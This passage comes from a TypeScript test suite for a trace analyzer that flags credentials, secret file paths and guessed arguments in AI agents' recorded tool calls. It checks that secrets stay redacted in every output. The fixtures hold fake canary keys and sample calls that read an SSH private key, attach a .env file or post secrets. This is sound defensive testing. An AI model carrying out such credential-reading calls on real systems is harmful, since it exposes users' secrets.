          { name: 'nested', input: deep },
          { name: 'sync', input: { files: { '/home/u/.ssh/id_rsa': 'read' } } },
        ]),
      ),
    );
    const outputs: string[] = [];
    const json = analyzeBin(file, '--format', 'json', '--reports');
    expect(json.code).toBe(1);
    const findings = parseJson(json).findings.filter((f) => f.severity !== 'info').map((f) => [f.rule, f.tool, f.key]);
    expect(findings).toEqual(
      expect.arrayContaining([
        ['sensitive_arg_dispatched', 'put_secret', 'aws_secret_access_key["[REDACTED:secret-key-name]"]'],
        ['sensitive_arg_dispatched', 'put_secret', 'password["[REDACTED:secret-key-name]"]'],
        ['sensitive_arg_dispatched', 'read_file', 'path'],
        ['sensitive_arg_dispatched', 'http_post', 'data["[REDACTED:inherited-secret]"]'],
        ['credential_in_attribute', 'nested', 'a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a'],
        ['sensitive_arg_dispatched', 'sync', 'files["/home/u/.ssh/id_rsa"]'],
      ]),
    );
    outputs.push(json.stdout, json.stderr);
    for (const format of ['table', 'sarif', 'junit', 'html']) {
      const run = analyzeBin(file, '--format', format, '--reports');
      expect(run.code, format).toBe(1);
      outputs.push(run.stdout, run.stderr);
    }
    const baseline = join(dir, 'baseline.json');
    expect(analyzeBin(file, '--write-baseline', baseline).code).toBe(0);
    outputs.push(readFileSync(baseline, 'utf8'));
    for (const canary of [AWS_SECRET, PASSWORD, SEED, GITHUB]) {
      for (const out of outputs) expect(out).not.toContain(canary.slice(0, 12));
    }
  });

  it('credentials glued into a tool\'s name, an argument key and a run id are reported and printed redacted in every output', () => {
    const AWS = 'AKIACANARYQ2345672XB';
    const dir = tmp();
    const file = join(dir, 'glued.json');
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'genai-aisdk-otel-function-tool.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: { name: string; attributes: { key: string; value: unknown }[] }[] }[] }) => r.scopeSpans.flatMap((x) => x.spans));
    const tool = spans.find((x: { name: string }) => x.name.startsWith('execute_tool'));
    tool.name = `execute_tool deploy_${GITHUB}`;
    const set = (key: string, v: string) => {
      const a = tool.attributes.find((x: { key: string }) => x.key === key);
      if (a) a.value = { stringValue: v };
      else tool.attributes.push({ key, value: { stringValue: v } });
    };
    set('gen_ai.tool.name', `deploy_${GITHUB}`);
    set('gen_ai.tool.call.arguments', JSON.stringify({ query: 'test', nested: { [`key_${AWS}`]: 1 } }));
    set('gen_ai.conversation.id', `run${AWS}`);
    writeFileSync(file, JSON.stringify(doc));
    const outputs: string[] = [];
    const json = analyzeBin(file, '--format', 'json', '--reports');
    expect(json.code).toBe(1);
    const found = parseJson(json).findings;
    expect(found.some((f) => f.rule === 'credential_in_attribute' && f.message.startsWith('The span\'s name holds'))).toBe(true);
    expect(found.some((f) => f.tool === 'deploy_[REDACTED:github-pat]')).toBe(true);
    expect(found.some((f) => f.key === 'nested.key_[REDACTED:aws-access-key-id]')).toBe(true);
    outputs.push(json.stdout, json.stderr);
    for (const format of ['table', 'sarif', 'junit', 'html']) {
      const run = analyzeBin(file, '--format', format, '--reports');
      outputs.push(run.stdout, run.stderr);
    }
    const baseline = join(dir, 'baseline.json');
    analyzeBin(file, '--write-baseline', baseline);
    outputs.push(readFileSync(baseline, 'utf8'));
    for (const out of outputs) for (const canary of [GITHUB, AWS]) expect(out.includes(canary.slice(4, 14))).toBe(false);
  });

  it('a credential found in an argument blob is named by its own kind, not by the first credential of the blob', () => {
    const file = join(tmp(), 'kinds.json');
    writeFileSync(file, JSON.stringify(page([{ name: 'post', input: { value: GITHUB, slack: SLACK } }])));
    const out = parseJson(analyzeBin(file, '--format', 'json'));
    const kinds = Object.fromEntries(out.findings.filter((f) => f.rule === 'credential_in_attribute').map((f) => [f.key, /matching the (\S+) credential shape/.exec(f.message)?.[1]]));
    expect(kinds).toEqual({ value: 'github-pat', slack: expect.stringMatching(/^slack/) });
  });
});

describe('argspan analyze: a credential in a model\'s proposal that the call did not run with', () => {
  // The AI SDK's GenAI telemetry (a real fixture): its model span gets the output messages the
  // conventions define, proposing the call the tool span recorded, by the same call id.
  const CANARY = 'ghp_C4naryPr0posedQ7xW2mK9pLr3TzV8bN5hJd1';
  function withOutput(parts: unknown[]): string {
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'genai-aisdk-otel-function-tool.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: { name: string; attributes: unknown[] }[] }[] }) => r.scopeSpans.flatMap((s) => s.spans));
    spans.find((s: { name: string }) => s.name === 'chat gpt-4').attributes.push({ key: 'gen_ai.output.messages', value: { stringValue: JSON.stringify([{ role: 'assistant', parts }]) } });
    const file = join(tmp(), 'proposal.json');
    writeFileSync(file, JSON.stringify(doc));
    return file;
  }
  const call = (args: unknown) => ({ type: 'tool_call', id: 'tool-call-1', name: 'myTool', arguments: args });

  it.each([
    ['in the proposed arguments (the tool span recorded others)', [call({ query: CANARY })]],
    ['in the text beside a proposal whose arguments are clean', [{ type: 'text', content: `using ${CANARY}` }, call({ query: 'test' })]],
  ])('%s: reported by attribute and tool, never printed (exit 1)', (_, parts) => {
    const run = analyzeBin(withOutput(parts), '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(1);
    const found = out.findings.filter((f) => f.rule === 'credential_in_attribute');
    expect(found.map((f) => [f.tool, f.key])).toEqual([['myTool', 'gen_ai.output.messages']]);
    expect(found[0]!.message).toContain('no argument of the myTool call it records holds one as the call ran');
    expect(run.stdout + run.stderr).not.toContain(CANARY.slice(4, 16));
  });

  it('a credential in a tool\'s result that an API answered in base64 (no keyword left in the text) is reported, naming the tool', () => {
    const env = `# production\nAWS_SECRET_ACCESS_KEY=Zq8wJalrXUtnFEMIK7MDENGbPxRfiCYQAZ7TRW4P\nTOKEN=${CANARY}\n`;
    const content = Buffer.from(env).toString('base64').match(/.{1,60}/g)!.join('\n');
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'genai-aisdk-otel-function-tool.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: { attributes: { key: string; value: unknown }[] }[] }[] }) => r.scopeSpans.flatMap((x) => x.spans));
    const result = spans.flatMap((x: { attributes: { key: string; value: unknown }[] }) => x.attributes).find((a: { key: string }) => a.key === 'gen_ai.tool.call.result');
    result.value = { stringValue: JSON.stringify({ type: 'file', encoding: 'base64', path: 'config/settings', content }) };
    const file = join(tmp(), 'result.json');
    writeFileSync(file, JSON.stringify(doc));
    const run = analyzeBin(file, '--format', 'json');
    expect(run.code).toBe(1);
    expect(parseJson(run).findings.filter((f) => f.rule === 'credential_in_attribute').map((f) => [f.tool, f.key])).toEqual([['myTool', 'gen_ai.tool.call.result']]);
    expect(run.stdout + run.stderr).not.toContain('Zq8wJalrXUtn');
  });

  it('a proposal that matches the arguments the call ran with gives no finding', () => {
    const run = analyzeBin(withOutput([call({ query: 'test' })]), '--format', 'json');
    expect(run.code).toBe(0);
    expect(parseJson(run).findings.filter((f) => f.severity !== 'info')).toEqual([]);
  });
});

describe('argspan analyze: a run whose input repeats the conversation, the model\'s tool calls included', () => {
  // The user gives a city; the model invents the zone. A later run's input (a LangGraph node, an
  // LLM run, a generation) repeats the conversation with the model's call: that is not the user's words.
  const ASK = 'What time is it in New York right now?';
  const call = { id: 'call_1', type: 'function', function: { name: 'get_time', arguments: '{"timezone":"America/New_York"}' } };
  const history = (ask: string) => [
    { role: 'user', content: ask },
    { role: 'assistant', content: '', tool_calls: [call] },
    { role: 'tool', content: '09:00', tool_call_id: 'call_1' },
  ];
  const langchain = (ask: string) => ({
    messages: [
      { type: 'human', content: ask },
      { type: 'ai', content: '', tool_calls: [{ name: 'get_time', args: { timezone: 'America/New_York' }, id: 'call_1' }] },
      { type: 'tool', content: '09:00', tool_call_id: 'call_1' },
    ],
  });
  const serialised = (ask: string) => [
    { lc: 1, type: 'constructor', id: ['langchain', 'schema', 'messages', 'HumanMessage'], kwargs: { content: ask } },
    { lc: 1, type: 'constructor', id: ['langchain', 'schema', 'messages', 'AIMessage'], kwargs: { content: '', tool_calls: [{ name: 'get_time', args: { timezone: 'America/New_York' }, id: 'call_1' }] } },
  ];
  type Attrs = Record<string, string>;
  function trace(spans: { name: string; attrs: Attrs }[]): string {
    const doc = {
      resourceSpans: [{
        resource: { attributes: [{ key: 'service.name', value: { stringValue: 'agent' } }] },
        scopeSpans: [{
          scope: { name: 'qa' },
          spans: spans.map((s, i) => ({
            traceId: 'a1b2c3d4e5f60718293a4b5c6d7e8f90',
            spanId: `30000000000000${String(i + 1).padStart(2, '0')}`,
            ...(i > 0 ? { parentSpanId: '3000000000000001' } : {}),
            name: s.name,
            kind: 1,
            startTimeUnixNano: String(1767225600000000000n + BigInt(i) * 1000000000n),
            endTimeUnixNano: String(1767225600500000000n + BigInt(i) * 1000000000n),
            attributes: Object.entries(s.attrs).map(([key, v]) => ({ key, value: { stringValue: v } })),
          })),
        }],
      }],
    };
    const file = join(tmp(), 'run.json');
    writeFileSync(file, JSON.stringify(doc));
    return file;
  }
  const emitters: Record<string, (input: unknown) => { name: string; attrs: Attrs }[]> = {
    'Langfuse (a generation\'s input)': (input) => [
      { name: 'agent', attrs: { 'langfuse.observation.type': 'agent', 'langfuse.observation.input': ASK } },
      { name: 'get_time', attrs: { 'langfuse.observation.type': 'tool', 'langfuse.observation.input': '{"timezone":"America/New_York"}', 'langfuse.observation.output': '09:00' } },
      { name: 'ChatOpenAI', attrs: { 'langfuse.observation.type': 'generation', 'langfuse.observation.input': JSON.stringify(input) } },
    ],
    'LangSmith (an LLM run\'s prompt, a batch of one)': (input) => [
      { name: 'agent', attrs: { 'langsmith.span.kind': 'chain', 'gen_ai.prompt': JSON.stringify({ question: ASK }) } },
      { name: 'get_time', attrs: { 'langsmith.span.kind': 'tool', 'gen_ai.operation.name': 'execute_tool', 'gen_ai.prompt': '{"timezone":"America/New_York"}', 'gen_ai.completion': '{"output":"09:00"}' } },
      { name: 'ChatOpenAI', attrs: { 'langsmith.span.kind': 'llm', 'gen_ai.prompt': JSON.stringify({ messages: [Array.isArray(input) ? input : (input as { messages: unknown }).messages] }) } },
    ],
    'OpenInference (a LangGraph node\'s input)': (input) => [
      { name: 'LangGraph', attrs: { 'openinference.span.kind': 'CHAIN', 'input.value': JSON.stringify({ messages: [['user', ASK]] }) } },
      { name: 'get_time', attrs: { 'openinference.span.kind': 'TOOL', 'tool.name': 'get_time', 'input.value': '{"timezone":"America/New_York"}', 'output.value': '09:00' } },
      { name: 'agent', attrs: { 'openinference.span.kind': 'CHAIN', 'input.value': JSON.stringify(input) } },
    ],
  };
  const conversations: Record<string, (ask: string) => unknown> = { 'chat messages': history, 'LangChain messages': langchain, 'serialised LangChain messages': serialised };

  for (const [emitter, spans] of Object.entries(emitters)) {
    it.each(Object.entries(conversations))(`${emitter}, as %s: the invented timezone is reported (exit 1)`, (_, conversation) => {
      const run = analyzeBin(trace(spans(conversation(ASK))), '--format', 'json');
      expect(run.code).toBe(1);
      expect(parseJson(run).findings.filter((f) => f.rule === 'assumption_span').map((f) => [f.tool, f.key])).toEqual([['get_time', 'timezone']]);
    });
    it(`${emitter}: a zone the user gave in a message of the conversation is the user's (exit 0)`, () => {
      const run = analyzeBin(trace(spans(history('What time is it in America/New_York right now?'))), '--format', 'json');
      expect(parseJson(run).findings.filter((f) => f.severity !== 'info')).toEqual([]);
      expect(run.code).toBe(0);
    });
  }
});

describe('argspan analyze: values a tool\'s schema asserts are not the model\'s guesses', () => {
  // The AI SDK's GenAI telemetry (a real fixture): the call passes a timezone and a currency the
  // tool definitions on the model span assert, in the forms the chat APIs and Pydantic write.
  function run(definition: unknown): ReturnType<typeof analyzeBin> {
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'genai-aisdk-otel-function-tool.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: { name: string; attributes: { key: string; value: unknown }[] }[] }[] }) => r.scopeSpans.flatMap((x) => x.spans));
    spans.find((x: { name: string }) => x.name === 'chat gpt-4').attributes.push({ key: 'gen_ai.tool.definitions', value: { stringValue: JSON.stringify([definition]) } });
    const args = spans.flatMap((x: { attributes: { key: string; value: unknown }[] }) => x.attributes).find((a: { key: string }) => a.key === 'gen_ai.tool.call.arguments');
    args.value = { stringValue: JSON.stringify({ query: 'test', slot: { timezone: 'UTC' }, currency: 'USD' }) };
    const file = join(tmp(), 'schema.json');
    writeFileSync(file, JSON.stringify(doc));
    return analyzeBin(file, '--format', 'json');
  }
  const parameters = {
    $defs: { Slot: { type: 'object', properties: { timezone: { type: 'string', default: 'UTC' } } } },
    type: 'object',
    properties: { query: { type: 'string' }, slot: { $ref: '#/$defs/Slot' }, currency: { type: 'string', enum: ['USD'] } },
  };
  it.each([
    ['flat', { name: 'myTool', parameters }],
    ['wrapped as a chat-completions function', { type: 'function', function: { name: 'myTool', parameters } }],
  ])('%s: a default in a $ref sub-model and a one-value enum give no assumption finding (exit 0)', (_, definition) => {
    const out = run(definition);
    expect(parseJson(out).findings.filter((f) => f.severity !== 'info')).toEqual([]);
    expect(out.code).toBe(0);
  });
  it('the same values without the definitions are reported as guesses (exit 1)', () => {
    const out = run({ name: 'otherTool', parameters });
    expect(out.code).toBe(1);
    expect(parseJson(out).findings.filter((f) => f.rule === 'assumption_span').map((f) => f.key).sort()).toEqual(['currency', 'slot.timezone']);
  });
});

describe('argspan analyze on OpenLLMetry\'s own flattened layout (gen_ai.prompt.{i}.*, gen_ai.completion.{i}.tool_calls.{j}.*)', () => {
  // The real OpenAI trace of fixtures/traces/foreign, its proposed arguments replaced.
  function withArguments(args: unknown): string {
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'openllmetry-openai-legacy-tool-calls-model-only.json'), 'utf8'));
    const span = doc.resourceSpans[0].scopeSpans[0].spans[0];
    span.attributes.find((a: { key: string }) => a.key === 'gen_ai.completion.0.tool_calls.0.arguments').value = { stringValue: JSON.stringify(args) };
    const file = join(tmp(), 'openllmetry.json');
    writeFileSync(file, JSON.stringify(doc));
    return file;
  }
  it('a model span\'s proposal is a call: an invented timezone and a secret file\'s path are reported, naming the emitter', () => {
    const run = analyzeBin(withArguments({ location: 'Boston', timezone: 'America/New_York', attachment: '/app/.env' }), '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(1);
    expect(out.findings.filter((f) => f.severity !== 'info').map((f) => [f.rule, f.tool, f.key, f.emitter]).sort()).toEqual([
      ['assumption_span', 'get_current_weather', 'timezone', 'openllmetry'],
      ['sensitive_arg_dispatched', 'get_current_weather', 'attachment', 'openllmetry'],
    ]);
    expect(run.stdout + run.stderr).not.toContain('.env');
  });
});

describe('argspan analyze: a GenAI tool span without gen_ai.operation.name', () => {
  it('is a tool call when named execute_tool or recording a call; a chat span that names a tool, or a span that only mentions one, is not', () => {
    const file = join(tmp(), 'no-operation.json');
    writeFileSync(file, toolSpansWithoutOperation());
    const run = analyzeBin(file, '--format', 'json');
    expect(run.code, run.stderr).toBe(1);
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(2);
    expect(out.findings.map((f) => [f.rule, f.tool, f.key, f.emitter, (f as unknown as { span_id: string }).span_id])).toEqual(CALLS_WITHOUT_OPERATION);
    expect(run.stdout + run.stderr).not.toContain('.env');
  });
});

describe('argspan analyze: Semantic Kernel\'s messages recorded as span events', () => {
  // SK writes no gen_ai.input.messages: the prompt and the choices are span events. Read, they give
  // the user's words (the call has evidence) and the calls the model proposed.
  const run = (file: string, ...args: string[]) => analyzeBin(join(FOREIGN, file), ...args);

  it('per-message events (SK .NET since May 2025) and gen_ai.content.prompt / .completion (before): the call, with evidence', () => {
    for (const file of ['semantic-kernel-dotnet-message-events-weather.json', 'derived/semantic-kernel-dotnet-legacy-content-events-weather.json']) {
      const out = parseJson(run(file, '--format', 'json'));
      expect([out.stats.foreign_calls, out.stats.no_evidence_calls], file).toEqual([1, 0]);
    }
  });

  it('a credential in a proposed call\'s arguments is reported once, by tool and argument, whatever copies it (the choice, the next prompt\'s history), and printed in no format', () => {
    const file = 'derived/semantic-kernel-token-in-choice.json';
    const out = parseJson(run(file, '--format', 'json'));
    expect(out.findings.map((f) => [f.rule, f.tool, f.key, f.message])).toEqual([
      // (the choice and the next prompt's history: two copies, both gen_ai.event.content, on two spans)
      ['credential_in_attribute', 'GetCurrentWeather', 'location', 'Argument location of GetCurrentWeather, recorded by genai-semconv in gen_ai.tool.call.arguments (and 2 other attribute(s)), holds a value matching the github-pat credential shape.'],
    ]);
    const token = 'ghp_C4NARYf0reignTRACEc4naryF0REIGNtr4ce';
    expect(readFileSync(join(FOREIGN, file), 'utf8')).toContain(token);
    for (const format of ['table', 'json', 'junit', 'sarif', 'html']) {
      const r = run(file, '--format', format);
      expect(r.code, format).toBe(1);
      expect(r.stdout + r.stderr, format).not.toContain(token);
    }
    const baseline = join(tmp(), 'baseline.json');
    expect(run(file, '--write-baseline', baseline).code).toBe(0);
    expect(readFileSync(baseline, 'utf8')).not.toContain(token);
  });
});

describe('argspan analyze on Strands Agents\' traces (messages and tool calls recorded only as span events)', () => {
  it.each([['legacy', strandsLegacyTrace], ['latest', strandsLatestTrace]] as const)('%s events: the call\'s input, the user\'s words and the model\'s call are read; its guess and its secrets reported, never printed', (shape, trace) => {
    const file = join(tmp(), `strands-${shape}.json`);
    writeFileSync(file, trace());
    const run = analyzeBin(file, '--format', 'json');
    expect(run.code, run.stderr).toBe(1);
    const out = parseJson(run);
    expect([out.stats.foreign_calls, out.stats.no_evidence_calls, out.stats.unreadable_args_calls]).toEqual([1, 0, 0]);
    expect(out.findings.map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual(STRANDS_FINDINGS[shape]);
    for (const format of ['table', 'json', 'sarif']) {
      const r = analyzeBin(file, '--format', format);
      expect(r.stdout + r.stderr, format).not.toContain(STRANDS_TOKEN);
      expect(r.stdout + r.stderr, format).not.toContain('/srv/app');
    }
  });
});

describe('argspan analyze: one call recorded by two emitters', () => {
  it('an OpenInference tool span with a Langfuse tool observation inside it: one call, its credential one finding, never printed', () => {
    const TOKEN = 'ghp_C4NARYtw1ceTRACEc4naryTW1CEtr4cexyzw';
    const args = JSON.stringify({ service: 'billing', note: `use ${TOKEN}` });
    const attrs = (a: Record<string, string>) => Object.entries(a).map(([key, v]) => ({ key, value: { stringValue: v } }));
    const span = (id: string, parent: string, start: number, end: number, a: Record<string, string>) => ({
      traceId: '7a1ce000000000000000000000000001', spanId: id, parentSpanId: parent, name: 'deploy', startTimeUnixNano: `${1_700_000_000_000_000_000n + BigInt(start)}`, endTimeUnixNano: `${1_700_000_000_000_000_000n + BigInt(end)}`, attributes: attrs(a),
    });
    const spans = [
      span('7a1ce00000000001', '', 0, 10_000, { 'gen_ai.input.messages': JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: 'Deploy billing.' }] }]) }),
      span('7a1ce00000000002', '7a1ce00000000001', 1_000, 9_000, { 'openinference.span.kind': 'TOOL', 'tool.name': 'deploy', 'input.value': args }),
      span('7a1ce00000000003', '7a1ce00000000002', 2_000, 8_000, { 'langfuse.observation.type': 'tool', 'langfuse.observation.input': args }),
    ];
    const file = join(tmp(), 'two-emitters.json');
    writeFileSync(file, JSON.stringify({ resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent' }, spans }] }] }));
    const run = analyzeBin(file, '--format', 'json');
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(1);
    expect(out.findings.map((f) => [f.rule, f.tool, f.key, f.emitter, f.message])).toEqual([
      ['credential_in_attribute', 'deploy', 'note', 'openinference', 'Argument note of deploy, recorded by openinference in input.value (and 1 other attribute(s)), holds a value matching the github-pat credential shape.'],
    ]);
    for (const format of ['table', 'json', 'sarif']) expect(analyzeBin(file, '--format', format).stdout, format).not.toContain(TOKEN);
  });
});

describe('argspan analyze: a call a later prompt repeats in its history', () => {
  // Every later model call sends the conversation again, the tool calls included: those copies
  // are the call's arguments, not findings of their own, unless the user's words beside them hold
  // a credential the arguments do not.
  const TOKEN = 'ghp_C4NARYhistoryTRACEc4naryH1STORYtr4ce';
  const OTHER = 'AKIAQ3EGRSXVB2MN7KLP';
  function pydanticWithToken(): string {
    // Pydantic AI v5's real trace: the call's `x` is in the tool span, the model's proposal, the
    // next prompt's gen_ai.input.messages and the agent run's pydantic_ai.all_messages.
    const text = readFileSync(join(FOREIGN, 'pydantic-ai-v5-format-my-ret.json'), 'utf8').replaceAll('\\"x\\":0', `\\"x\\":\\"${TOKEN}\\"`);
    const file = join(tmp(), 'pydantic.json');
    writeFileSync(file, text);
    return file;
  }
  function semanticKernelWithUserToken(): string {
    // The planted-token SK trace, with a second credential in the user's words of the next prompt.
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'derived/semantic-kernel-token-in-choice.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: unknown[] }[] }) => r.scopeSpans.flatMap((s) => s.spans));
    const next = spans.find((s: { spanId: string }) => s.spanId === 'a1b2c3d4e5f60720');
    const user = next.events.find((e: { name: string }) => e.name === 'gen_ai.user.message').attributes.find((a: { key: string }) => a.key === 'gen_ai.event.content');
    user.value.stringValue = JSON.stringify({ role: 'user', content: `What time is it? my key is ${OTHER}` });
    const file = join(tmp(), 'sk.json');
    writeFileSync(file, JSON.stringify(doc));
    return file;
  }

  it('GenAI messages: one finding for the argument, naming the attribute of the call\'s own span and counting the copies', () => {
    const file = pydanticWithToken();
    expect(readFileSync(file, 'utf8').split(TOKEN).length - 1).toBe(4);
    const r = analyzeBin(file, '--format', 'json');
    expect(r.code).toBe(1);
    expect(parseJson(r).findings.map((f) => [f.rule, f.tool, f.key, f.message])).toEqual([
      ['credential_in_attribute', 'my_ret', 'x', 'Argument x of my_ret, recorded by genai-semconv in gen_ai.tool.call.arguments (and 3 other attribute(s)), holds a value matching the github-pat credential shape.'],
    ]);
    expect(r.stdout + r.stderr).not.toContain(TOKEN);
  });

  it('a tool result echoing the argument\'s credential (the tool span\'s result, the next prompt\'s history) is the same credential, one finding; another credential in the result is one of its own', () => {
    // (Pydantic AI's my_ret returns "1": here the token it was called with, and then also a second credential)
    const echoed = (result: string) => {
      const text = readFileSync(pydanticWithToken(), 'utf8').replaceAll('\\"result\\":\\"1\\"', `\\"result\\":\\"${result}\\"`);
      const doc = JSON.parse(text) as { resourceSpans: { scopeSpans: { spans: { name: string; attributes: { key: string; value: { stringValue?: string } }[] }[] }[] }[] };
      const tool = doc.resourceSpans.flatMap((r) => r.scopeSpans.flatMap((s) => s.spans)).find((s) => s.name === 'execute_tool my_ret')!;
      tool.attributes.find((a) => a.key === 'gen_ai.tool.call.result')!.value.stringValue = result;
      const file = join(tmp(), 'echo.json');
      writeFileSync(file, JSON.stringify(doc));
      // (the arguments' four copies, the result and its two copies in the histories)
      expect(readFileSync(file, 'utf8').split(TOKEN).length - 1).toBe(7);
      return file;
    };
    const r = analyzeBin(echoed(`token ${TOKEN}`), '--format', 'json');
    expect(r.code).toBe(1);
    expect(parseJson(r).findings.map((f) => [f.rule, f.tool, f.key, f.message])).toEqual([
      ['credential_in_attribute', 'my_ret', 'x', 'Argument x of my_ret, recorded by genai-semconv in gen_ai.tool.call.arguments (and 4 other attribute(s)), holds a value matching the github-pat credential shape.'],
    ]);
    const both = analyzeBin(echoed(`token ${TOKEN} and ${OTHER}`), '--format', 'json');
    expect(parseJson(both).findings.map((f) => [f.rule, f.tool, f.key]).sort()).toEqual([
      // (the other credential: in the result on the tool span, and in each history repeating it, a copy of the call: each names the attribute)
      ['credential_in_attribute', 'my_ret', 'gen_ai.input.messages'],
      ['credential_in_attribute', 'my_ret', 'gen_ai.tool.call.result'],
      ['credential_in_attribute', 'my_ret', 'pydantic_ai.all_messages'],
      ['credential_in_attribute', 'my_ret', 'x'],
    ]);
    for (const run of [r, both]) for (const value of [TOKEN, OTHER]) expect(run.stdout + run.stderr).not.toContain(value);
  });

  it('a history that also holds a credential of the user\'s: that one is a finding of its own, the copy of the argument\'s is not', () => {
    const r = analyzeBin(semanticKernelWithUserToken(), '--format', 'json');
    expect(parseJson(r).findings.map((f) => [f.rule, f.tool, f.key, f.message])).toEqual([
      // (the choice and the next prompt's history: two copies, both gen_ai.event.content, on two spans)
      ['credential_in_attribute', 'GetCurrentWeather', 'location', 'Argument location of GetCurrentWeather, recorded by genai-semconv in gen_ai.tool.call.arguments (and 2 other attribute(s)), holds a value matching the github-pat credential shape.'],
      // (the user's message is an event of the span whose history event repeats the call, under the same key)
      ['credential_in_attribute', 'GetCurrentWeather', 'gen_ai.event.content', 'Attribute gen_ai.event.content on an event of the span holds a value matching the aws-access-key-id credential shape; no argument of the GetCurrentWeather call it records holds one as the call ran.'],
    ]);
    expect(r.stdout + r.stderr).not.toContain(OTHER);
    expect(r.stdout + r.stderr).not.toContain('ghp_C4NARYf0reignTRACEc4naryF0REIGNtr4ce');
  });
});

describe('argspan analyze: a run input holding a conversation that repeats a call with a credential', () => {
  // fixtures/traces/foreign/README.md: a real call each, a planted token in one argument; a later run is added whose input
  // holds the conversation so far (a LangGraph node under OpenInference, a LangSmith chain run's `{"input": …}`, a Langfuse
  // span's messages): the model's message repeats the call as the trace recorded it. That copy is the call's argument,
  // reported once by tool and key, not again by attribute.
  const TOKEN = 'ghp_' + 'C4NARYrun1nputH1STORYc4naryrunINPUTxy';
  type Attr = { key: string; value: { stringValue?: string } };
  type Span = { spanId: string; parentSpanId?: string; name: string; startTimeUnixNano: string; endTimeUnixNano: string; attributes: Attr[] };
  type Doc = { resourceSpans: { scopeSpans: { spans: Span[] }[] }[] };
  const str = (span: Span, key: string) => span.attributes.find((a) => a.key === key)!.value.stringValue!;
  /** The fixture with `from` changed to `to` in every attribute (as written and inside JSON text), and a run span `run` builds from its spans added after them. */
  function plantedWithRun(file: string, from: string, to: string, run: (spans: Span[]) => { name: string; attrs: Record<string, string> }): string {
    const doc = JSON.parse(readFileSync(join(FOREIGN, file), 'utf8')) as Doc;
    const spans = doc.resourceSpans[0]!.scopeSpans[0]!.spans;
    let copies = 0;
    for (const attr of spans.flatMap((s) => s.attributes)) {
      for (const [a, b] of [[from, to], [JSON.stringify(from).slice(1, -1), JSON.stringify(to).slice(1, -1)]] as const) {
        if (attr.value.stringValue?.includes(a)) {
          attr.value.stringValue = attr.value.stringValue.split(a).join(b);
          copies++;
        }
      }
    }
    expect(copies).toBeGreaterThan(0);
    const last = spans.reduce((a, b) => (BigInt(a.endTimeUnixNano) > BigInt(b.endTimeUnixNano) ? a : b));
    const { name, attrs } = run(spans);
    spans.push({
      ...spans[0]!,
      spanId: 'f0e1d2c3b4a59687',
      name,
      startTimeUnixNano: String(BigInt(last.endTimeUnixNano) + 1000000n),
      endTimeUnixNano: String(BigInt(last.endTimeUnixNano) + 2000000n),
      attributes: Object.entries(attrs).map(([key, v]) => ({ key, value: { stringValue: v } })),
    });
    const path = join(tmp(), file);
    writeFileSync(path, JSON.stringify(doc));
    expect(readFileSync(path, 'utf8').split(TOKEN).length - 1).toBeGreaterThan(copies);
    return path;
  }
  /** A chat conversation: the user's question, the model's call of `tool` with `args` (JSON text), the tool's result. */
  const chat = (ask: string, tool: string, args: string, result: string) => [
    { role: 'user', content: ask },
    { role: 'assistant', content: '', tool_calls: [{ id: 'call_h1st0ry', type: 'function', function: { name: tool, arguments: args } }] },
    { role: 'tool', content: result, tool_call_id: 'call_h1st0ry' },
  ];
  /** The Responses API conversation of the fixture's two requests: the user's message, the first response's `function_call` item as output, the second request's `function_call_output`. */
  const responsesItems = (first: Span, second: Span) => {
    const call = (JSON.parse(str(first, 'output.value')) as { output: { type: string }[] }).output.find((i) => i.type === 'function_call')!;
    const result = (JSON.parse(str(second, 'input.value')) as { input: unknown[] }).input;
    return [{ role: 'user', content: "What's the weather in San Francisco?" }, call, ...result];
  };
  const cases: Record<string, { file: string; from: string; to: string; run: (spans: Span[]) => { name: string; attrs: Record<string, string> }; want: [string, string, string] }> = {
    // (the LLM span's proposals; the node's input: the human message it was sent and the AIMessage of its LLMResult, as LangGraph passes them on)
    'OpenInference, a CHAIN span (LangGraph node)': {
      file: 'openinference-langchain-tool-calls-model-only.json', from: '"b": 12', to: `"b": "12 ${TOKEN}"`,
      run: ([llm]) => {
        const input = JSON.parse(str(llm!, 'input.value')) as { messages: unknown[][] };
        const output = JSON.parse(str(llm!, 'output.value')) as { generations: { message: unknown }[][] };
        return { name: 'agent', attrs: { 'openinference.span.kind': 'CHAIN', 'input.value': JSON.stringify({ messages: [...input.messages[0]!, output.generations[0]![0]!.message] }) } };
      },
      want: ['multiply', 'b', 'openinference'],
    },
    'LangSmith, a chain run\'s {"input": …}': {
      file: 'langsmith-otel-traceable-tool.json', from: '"city":"London"', to: `"city":"London ${TOKEN}"`,
      run: ([, tool]) => ({ name: 'summarise', attrs: { 'langsmith.span.kind': 'chain', 'gen_ai.prompt': JSON.stringify({ input: chat('What is the weather in London?', 'get_weather', str(tool!, 'gen_ai.prompt'), 'It\'s cloudy with 15°C') }) } }),
      want: ['get_weather', 'city', 'langsmith'],
    },
    'Langfuse, a span observation\'s input': {
      file: 'langfuse-langchain-tool-write-document.json', from: '# Title', to: `# Title ${TOKEN}`,
      run: ([tool]) => ({ name: 'agent', attrs: { 'langfuse.observation.type': 'span', 'langfuse.observation.input': JSON.stringify({ messages: chat('Write the document', 'write_document', str(tool!, 'langfuse.observation.input'), 'written') }) } }),
      want: ['write_document', 'content', 'langfuse'],
    },
